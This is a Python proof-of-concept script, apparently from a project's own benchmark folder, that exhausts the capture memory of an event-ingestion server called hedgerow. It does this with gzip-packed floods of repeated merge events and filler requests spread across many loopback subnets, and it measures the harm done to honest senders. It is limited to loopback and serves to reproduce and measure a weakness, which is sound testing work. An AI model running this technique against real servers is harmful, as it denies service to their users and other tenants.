#!/usr/bin/env python3
"""Fills the capture memory of an organization, or of the whole server, with batches that wait for the embedded store's writer.

What parsing a batch may take (3.4 kB for an event of 80 bytes) was reserved until it was stored, and nothing limited how much of it one subnet had. A
`$merge_dangerously` between two persons of 1,000 ids each counts 2,000 rows, changes nothing, and can be repeated: 500 of them keep the
writer busy for 0.25 s if the ids are long, 0.06 s if they are short. One request of 58,000 of them (some kB packed) has 200 MB for 30 s, or 8 s.

No credentials: only tokens, which are public. Loopback only. First a setup: persons with 1,000 long ids (60 in each team; some ten
seconds each, by the same token; `--short`: 2 persons, at once). The attack itself lasts for 28 s.

Either against a server that runs (embedded store, HEDGEROW_TRUSTED_PROXIES not holding 127.0.0.0/8):
    capture_memory.py org --base http://127.0.0.1:8000 --token VICTIM --other OTHER --pid PID
    capture_memory.py all --base http://127.0.0.1:8000 --token T1,T2,T3,T4 --other OTHER --pid PID
or with one that it starts by bench/attack_common.py, on a folder of its own:
    capture_memory.py org --binary target/release/hedgerow
    capture_memory.py all --binary target/release/hedgerow

org: honest senders use the SAME token as the attacker (visitors of the victim's site), and OTHER beside it to compare.
all: the attacker uses four tokens (own organizations, or four public ones); honest senders use OTHER alone.
"""

import argparse
import collections
import contextlib
import gzip
import json
import pathlib
import socket
import statistics
import sys
import threading
import time
import urllib.parse

SECONDS = 28
over = threading.Event()
lock = threading.Lock()
sent_bytes = 0
attack_statuses = collections.Counter()


def request(base, path, body, source, wait, more="", close_after=None):
    """The status; 0: no answer within `wait`."""
    global sent_bytes
    head = f"POST {path} HTTP/1.1\r\nHost: {base.hostname}\r\nContent-Type: application/json\r\nConnection: close\r\n{more}Content-Length: {len(body)}\r\n\r\n"
    with socket.socket() as connection:
        connection.settimeout(wait)
        connection.bind((source, 0))
        connection.connect((base.hostname, base.port))
        connection.sendall(head.encode() + body)
        if more:
            with lock:
                sent_bytes += len(head) + len(body)
        if close_after:
            connection.settimeout(close_after)
        try:
            answer = connection.recv(4096)
        except TimeoutError:
            return 0
        return int(answer.split()[1]) if answer else 0


def packed(events):
    return gzip.compress(json.dumps({"batch": events}, separators=(",", ":"), ensure_ascii=False).encode())


GZIP = "Content-Encoding: gzip\r\n"
pairs = 30
padding = "\U0001f600" * 190


def merges(count):
    """Few are sent as they are: what gzip is unpacked into counts for 16 kB at least."""
    event = lambda n: {"event": "$merge_dangerously", "distinct_id": f"p{2 * n}", "properties": {"alias": f"p{2 * n + 1}"}}
    events = [event(n % pairs) for n in range(count)]
    if count < 20:
        return json.dumps({"batch": events}, separators=(",", ":")).encode()
    return packed(events)


def attack(base, path, body, source, close_after=None, pause=0.0):
    encoding = GZIP if body[:1] == b"\x1f" else "Accept: */*\r\n"
    while not over.is_set():
        with contextlib.suppress(OSError):
            status = request(base, path, body, source, 35, encoding, close_after)
            with lock:
                attack_statuses[status] += 1
            if status == 503:
                time.sleep(0.05)
        time.sleep(pause)


class Honest:
    """Visitors in subnets of their own, each with one event every half second at most."""

    def __init__(self, base, token, name, first_subnet, senders=8):
        self.base, self.token, self.name = base, token, name
        self.subnets = range(first_subnet, first_subnet + senders)
        self.seen = []
        self.until = 0.0

    def send(self, subnet):
        properties = {"$current_url": "https://example.com/a", "$browser": "Firefox", "$os": "Linux", "n": 1, "plan": "free"}
        body = json.dumps({"api_key": self.token, "event": "$pageview", "distinct_id": f"visitor-{subnet}", "properties": properties}).encode()
        while time.time() < self.until:
            started = time.time()
            status = 0
            with contextlib.suppress(OSError):
                status = request(self.base, "/e/", body, f"127.0.{subnet}.1", 20)
            self.seen.append((time.time() - started, status, started))
            time.sleep(max(0.05, started + 0.5 - time.time()))

    def start(self, seconds):
        self.seen, self.until = [], time.time() + seconds
        self.threads = [threading.Thread(target=self.send, args=(subnet,), daemon=True) for subnet in self.subnets]
        for thread in self.threads:
            thread.start()

    def end(self, what, since=0.0):
        """Those that began since then."""
        for thread in self.threads:
            thread.join(25)
        seen = [(took, status) for took, status, started in self.seen if started >= since]
        times = sorted(took for took, _ in seen) or [0.0]
        statuses = collections.Counter(status for _, status in seen)
        good = sorted(took for took, status in seen if status == 200) or [0.0]
        print(
            f"{what:20} {self.name:28} {len(seen):4} requests, statuses {dict(statuses)}; all: median {statistics.median(times):.3f} s, "
            f"worst {times[-1]:.3f} s; of 200s: median {statistics.median(good):.3f} s, worst {good[-1]:.3f} s",
            flush=True,
        )


def resident(pid):
    if not pid:
        return 0
    text = pathlib.Path(f"/proc/{pid}/status").read_text()
    return int(text.split("VmRSS:")[1].split()[0]) // 1024


def prepare(base, token):
    """Persons with 1,000 ids each."""
    path, started = f"/batch/?token={token}", time.time()
    for first in range(0, 2 * pairs, 4):
        events = []
        for person in range(first, min(first + 4, 2 * pairs)):
            events.append({"event": "x", "distinct_id": f"p{person}", "properties": {}})
            alias = lambda n: {"event": "$create_alias", "distinct_id": f"p{person}", "properties": {"alias": f"{padding}{person:02}{n:04}"}}
            events += [alias(n) for n in range(999)]
        status = request(base, path, packed(events), "127.0.99.1", 60, GZIP)
        assert status == 200, f"setup: {status}"
    print(f"setup of one team: {time.time() - started:.1f} s", flush=True)


SINGLE = b'{"event":"a","distinct_id":"b"}'


def fillers(path, token, subnet):
    """What is left over is filled with ever smaller ones, which stay behind the large one in its queue. Nobody waits for their answers."""
    loops = [(path, merges(count), f"127.0.{subnet}.2", 0.03, 0.02) for count in (270, 120, 40, 12, 4, 1)]
    # The smallest need less than anybody's event. They wait, and so take what honest senders give back.
    return loops + [("/e/?token=" + token, SINGLE, f"127.0.{subnet}.{end}", 2.0, 0.0) for end in (3, 7, 8, 9)]


def of_one_organization(base, token, memory):
    """The addresses, what each sends, and how long it waits for the answer."""
    path = f"/batch/?token={token}"
    # An event counts for about 3.4 kB. Only one at a time: one that waits for room gives some back when it gives up.
    large = merges(58_000 * memory // 768)
    return [(path, large, "127.0.1.1", None, 0.0)] + fillers(path, token, 1) * 2


def of_all(base, tokens, memory):
    """Large ones first, each half of what others leave; then small ones, which have no such limit."""
    loops, rest = [], []
    for number, (token, events) in enumerate(zip(tokens, (58_000, 38_000, 19_000, 9_500), strict=True)):
        path = f"/batch/?token={token}"
        loops.append((path, merges(events * memory // 768), f"127.0.{number + 1}.1", None, 0.0))
        rest += [(path, merges(270), f"127.0.{number + 1}.{end}", 0.06, 0.02) for end in (4, 5, 6)]
        rest += fillers(path, token, number + 1)
    return loops + rest


def run(kind, base, tokens, other, pid, memory):
    assert len(tokens) == (1 if kind == "org" else 4), "org: one token; all: four"
    honest = [Honest(base, other, "of another organization", 220)]
    if kind == "org":
        honest.append(Honest(base, tokens[0], "with the victim's own token", 200))
    for each in honest:
        each.start(3)
    for each in honest:
        each.end("before")
    for token in tokens:
        prepare(base, token)
    print(f"resident before: {resident(pid)} MB", flush=True)
    loops = of_one_organization(base, tokens[0], memory) if kind == "org" else of_all(base, tokens, memory)
    print(f"{len(loops)} connections at most", flush=True)
    started = time.time()
    for each in honest:
        each.start(SECONDS - 10.5)
    for path, body, source, close_after, pause in loops:
        threading.Thread(target=attack, args=(base, path, body, source, close_after, pause), daemon=True).start()
        if close_after is None:
            # Large ones are in the queue before what is to stay behind them.
            time.sleep(0.5)
    most, ends = 0, started + SECONDS
    while time.time() < ends:
        most = max(most, resident(pid))
        time.sleep(0.1)
    took = time.time() - started
    over.set()
    for each in honest:
        each.end("first 7 s and later")
        each.end("since 7 s", started + 7)
    print(
        f"attack: {sum(attack_statuses.values()) / took:.0f} requests/s, {sent_bytes / took / 1000:.0f} kB/s, statuses {dict(attack_statuses)} "
        f"(0: the attacker hung up); resident at most {most} MB",
        flush=True,
    )
    # How long it takes until all is well again.
    again = time.time()
    while time.time() < again + 40:
        event = json.dumps({"api_key": other if kind == "all" else tokens[0], "event": "e", "distinct_id": "d"}).encode()
        one = time.time()
        status = 0
        with contextlib.suppress(OSError):
            status = request(base, "/e/", event, "127.0.250.1", 20)
        if status == 200 and time.time() - one < 0.5:
            break
    print(f"well again {time.time() - started - took:.1f} s after the attack (with the wait for honest senders)", flush=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=("org", "all"))
    parser.add_argument("--base")
    parser.add_argument("--token", help="org: the victim's; all: four, with commas")
    parser.add_argument("--other", help="another organization's, which only honest senders use")
    parser.add_argument("--pid", type=int, default=0)
    parser.add_argument("--memory", type=int, default=768, help="HEDGEROW_CAPTURE_MEMORY, in MB")
    parser.add_argument("--short", action="store_true", help="two persons with short ids: a faster setup, a weaker attack")
    parser.add_argument("--binary")
    parser.add_argument("--bench", default=str(pathlib.Path(__file__).resolve().parent.parent))
    given = parser.parse_args()
    if given.short:
        globals().update(pairs=1, padding="id")
    if given.base:
        base = urllib.parse.urlsplit(given.base)
        assert base.hostname.startswith("127."), "loopback only"
        run(given.kind, base, given.token.split(","), given.other, given.pid, given.memory)
        return
    sys.path.insert(0, given.bench)
    import attack_common as common

    settings = {"HEDGEROW_CAPTURE_MEMORY": str(given.memory), "HEDGEROW_TRUSTED_PROXIES": "10.255.255.0/24"}
    with common.running(given.binary, **settings) as server:
        victims = [common.Tenant(server, f"victim{n}") for n in range(4 if given.kind == "all" else 1)]
        other = common.Tenant(server, "other")
        base = urllib.parse.urlsplit(f"http://127.0.0.1:{server.port}")
        tokens = [victim.team["api_token"] for victim in victims]
        run(given.kind, base, tokens, other.team["api_token"], server.process.pid, given.memory)


if __name__ == "__main__":
    main()
